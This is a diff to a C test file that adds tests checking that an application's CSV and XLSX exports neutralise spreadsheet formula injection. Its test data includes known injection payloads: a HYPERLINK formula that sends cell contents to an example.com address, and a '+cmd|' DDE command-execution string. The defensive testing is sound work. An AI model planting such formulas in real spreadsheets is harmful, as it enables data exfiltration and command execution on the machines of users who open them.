@@ -625,6 +625,115 @@ test_csv_reimport (void)
   g_assert_cmpuint (pm_progress_import_count_change (import, PM_IMPORT_CHANGE_UNCHANGED), ==, with_value);
 }
 
+/* Notes (and a title) a spreadsheet would take for formulas, each with
+ * the cell the CSV must hold: an apostrophe first, as OWASP advises. */
+static const struct {
+  const char *note;
+  const char *cell;
+} formula_notes[] = {
+  { "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")" },
+  { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
+  { "@SUM(1+1)", "'@SUM(1+1)" },
+  { "-2+3", "'-2+3" },
+  { "\tTabbed", "'\tTabbed" },
+  { "'=Marked by hand", "''=Marked by hand" },
+  { "'Quoted, not a formula", "'Quoted, not a formula" },
+};
+
+#define FORMULA_TITLE "=Families reached"
+
+/* The first KPIs (of Cannock Chase and East Staffordshire) get those
+ * notes with a value each, and the first pilot a KPI whose title starts
+ * with "=". */
+static void
+add_formula_notes (PmProgramme *programme)
+{
+  g_autoptr(GPtrArray) kpis = all_kpis (programme);
+  g_autoptr(PmKpi) formula_title = pm_kpi_new (FORMULA_TITLE, PM_UNIT_COUNT, PM_DIRECTION_INCREASE);
+
+  g_assert_cmpuint (kpis->len, >, G_N_ELEMENTS (formula_notes));
+  for (guint i = 0; i < G_N_ELEMENTS (formula_notes); i++)
+    set_entry (g_ptr_array_index (kpis, i), 1, formula_notes[i].note);
+
+  pm_pilot_add_kpi (pm_kpi_get_pilot (g_ptr_array_index (kpis, 0)), formula_title);
+  set_entry (formula_title, 3, "@Pilot lead");
+}
+
+/* Every cell that a spreadsheet would run is neutralised, numbers are
+ * left as numbers, and the file read back gives every note exactly as it
+ * was. */
+static void
+test_csv_formulas (void)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(PmProgramme) programme = load_sample ();
+  g_autoptr(PmPeriod) period = q3 ();
+  g_autoptr(GPtrArray) kpis = NULL;
+  g_autoptr(Csv) csv = NULL;
+  g_autoptr(PmProgressImport) import = NULL;
+  g_autofree char *path = g_build_filename (tmp_dir, "formulas.csv", NULL);
+  g_autofree char *contents = NULL;
+  gsize length = 0;
+  guint with_entry = 0;
+  guint n_seen = 0;
+
+  add_formula_notes (programme);
+  kpis = all_kpis (programme);
+  g_assert_true (pm_table_export_csv (programme, period, path, &error));
+  g_assert_no_error (error);
+  g_file_get_contents (path, &contents, &length, &error);
+  g_assert_no_error (error);
+  csv = csv_read (contents, length);
+
+  for (guint i = 0; i < kpis->len; i++)
+    {
+      PmKpi *kpi = g_ptr_array_index (kpis, i);
+      const char *note = note_of (kpi);
+      double value;
+
+      with_entry += pm_kpi_get_entry (kpi, period) != NULL;
+
+      /* Numbers as they are: no cell of a value starts with an apostrophe. */
+      if (value_of (kpi, &value))
+        g_assert_cmpfloat (parse_number (csv_field (csv, i + 1, 10)->text), ==, value);
+
+      if (g_str_equal (pm_kpi_get_title (kpi), FORMULA_TITLE))
+        {
+          g_assert_cmpstr (csv_field (csv, i + 1, 2)->text, ==, "'" FORMULA_TITLE);
+          g_assert_cmpstr (csv_field (csv, i + 1, 11)->text, ==, "'@Pilot lead");
+          n_seen++;
+          continue;
+        }
+      for (guint n = 0; n < G_N_ELEMENTS (formula_notes); n++)
+        if (g_str_equal (note, formula_notes[n].note))
+          {
+            g_assert_cmpstr (csv_field (csv, i + 1, 11)->text, ==, formula_notes[n].cell);
+            n_seen++;
+          }
+    }
+  g_assert_cmpuint (n_seen, ==, G_N_ELEMENTS (formula_notes) + 1);
+
+  /* No other cell of the file starts a formula. */
+  for (guint r = 0; r < csv->records->len; r++)
+    for (guint c = 0; c < csv_record (csv, r)->len; c++)
+      {
+        const char *text = csv_field (csv, r, c)->text;
+
+        g_assert_null (strchr ("=+@\t\r", text[0] != '\0' ? text[0] : 'x'));
+        if (text[0] == '-')
+          parse_number (text);
+      }
+
+  /* Read back, every note and title is the model's: nothing would change. */
+  import = pm_progress_import_new_from_csv (programme, contents, length, &error);
+  g_assert_no_error (error);
+  for (guint i = 0; i < pm_progress_import_get_n_rejected (import); i++)
+    g_test_message ("%s", pm_progress_import_get_rejection (import, i, NULL));
+  g_assert_cmpuint (pm_progress_import_get_n_rejected (import), ==, 0);
+  g_assert_cmpuint (pm_progress_import_get_n_rows (import), ==, with_entry);
+  g_assert_cmpuint (pm_progress_import_count_change (import, PM_IMPORT_CHANGE_UNCHANGED), ==, with_entry);
+}
+
 /* ------------------------------------------------------------------ */
 /* XLSX, read back by LibreOffice */
 
@@ -866,6 +975,61 @@ test_xlsx_sample (void)
     }
 }
 
+/* The workbook keeps such notes (and the title) as text: LibreOffice
+ * gives them back word for word, where a formula would give its result. */
+static void
+test_xlsx_formulas (void)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(PmProgramme) programme = load_sample ();
+  g_autoptr(PmPeriod) period = q3 ();
+  g_autoptr(GPtrArray) kpis = NULL;
+  g_autofree char *path = g_build_filename (tmp_dir, "formulas.xlsx", NULL);
+  g_autofree char *out_dir = g_build_filename (tmp_dir, "formulas-csv", NULL);
+  g_autofree char *soffice = NULL;
+  const char *districts[] = { "Cannock Chase", "East Staffordshire" };
+  guint n_seen = 0;
+
+  add_formula_notes (programme);
+  kpis = all_kpis (programme);
+  g_assert_true (pm_table_export_xlsx (programme, period, path, &error));
+  g_assert_no_error (error);
+
+  soffice = find_libreoffice ();
+  if (soffice == NULL)
+    {
+      g_test_skip ("LibreOffice (soffice) is not installed: the workbook was not opened");
+      return;
+    }
+  convert_to_csv (soffice, path, out_dir);
+
+  for (guint d = 0; d < G_N_ELEMENTS (districts); d++)
+    {
+      g_autoptr(Csv) sheet = load_sheet (out_dir, "formulas", districts[d]);
+      guint r = 0;
+
+      for (guint i = 0; i < kpis->len; i++)
+        {
+          PmKpi *kpi = g_ptr_array_index (kpis, i);
+          const char *note = note_of (kpi);
+
+          if (!g_str_equal (district_of (kpi), districts[d]))
+            continue;
+          r++;
+
+          g_assert_cmpstr (csv_field (sheet, r, 1)->text, ==, pm_kpi_get_title (kpi));
+          g_assert_true (csv_field (sheet, r, 1)->quoted);
+          if (note[0] == '\0' || strchr (note, '\t') != NULL)
+            continue;
+          g_assert_cmpstr (csv_field (sheet, r, 10)->text, ==, note);
+          g_assert_true (csv_field (sheet, r, 10)->quoted);
+          n_seen++;
+        }
+    }
+  /* Every note but the one with a tab, and the title's note. */
+  g_assert_cmpuint (n_seen, >=, G_N_ELEMENTS (formula_notes));
+}
+
 /* Sheet names: no []:*?/\, 31 characters at most, unique whatever the case
  * (the appendix's own name included). */
 static void
@@ -967,8 +1131,10 @@ main (int   argc,
   g_test_add_func ("/export/csv/sample", test_csv_sample);
   g_test_add_func ("/export/csv/replace", test_csv_replace);
   g_test_add_func ("/export/csv/reimport", test_csv_reimport);
+  g_test_add_func ("/export/csv/formulas", test_csv_formulas);
   g_test_add_func ("/export/xlsx/sample", test_xlsx_sample);
   g_test_add_func ("/export/xlsx/sheet-names", test_xlsx_sheet_names);
+  g_test_add_func ("/export/xlsx/formulas", test_xlsx_formulas);
   g_test_add_func ("/export/failure/missing-folder", test_missing_folder);
 
   status = g_test_run ();
